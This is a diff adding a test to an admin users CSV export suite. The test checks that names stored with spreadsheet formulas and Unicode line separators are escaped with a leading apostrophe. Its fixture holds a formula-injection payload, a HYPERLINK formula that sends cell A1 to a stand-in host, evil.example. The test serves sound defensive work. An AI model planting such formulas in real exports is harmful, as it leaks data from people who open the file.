@@ -83,6 +83,27 @@ describe('admin users list: pages and CSV (HTTP, embedded)', function () {
     expect(rowsOf(page.body as string).data.map((r) => r.id)).to.deep.equal([mine[2]!.userId]);
   });
 
+  it('escapes a formula in a name stored before the contracts refused line separators (U+2028 / U+2029)', async function () {
+    const t = unique();
+    const { userId } = await h.signup({ email: `old.${t}@example.com`, username: `old_${t}`, lastName: `Old${t}` });
+    // What an edit before the rule could store: papaparse's escape pattern (`.*$`) stopped at the separator.
+    const firstName = '=HYPERLINK("https://evil.example/?d="&A1,"open")\u2028Ann';
+    const lastName = '+1\u2029Lee';
+    const meta = { userId: admin.id, correlationId: randomUUID(), causationId: randomUUID(), at: new Date().toISOString(), schemaVersion: 1 };
+    await h.rt.infra.eventStore.append(
+      `user-${userId}`,
+      [{ id: randomUUID(), type: 'UserProfileUpdated', data: { userId, changes: { firstName, lastName }, updatedBy: admin.id, updatedAt: meta.at }, metadata: meta }],
+      'any',
+    );
+    await h.projector.caughtUp();
+    for (const token of [admin.token, auditorToken]) {
+      const res = await get(`/api/admin/users?q=old_${t}&format=csv`, token);
+      expect(res.status).to.equal(200);
+      const [row] = rowsOf(res.body as string).data;
+      expect(row).to.include({ id: userId, firstName: `'${firstName}`, lastName: `'${lastName}` });
+    }
+  });
+
   it('lets an auditor download the CSV; a free user gets 403 and a visitor 401', async function () {
     const auditor = await get(`/api/admin/users?q=${search}&format=csv`, auditorToken);
     expect(auditor.status).to.equal(200);
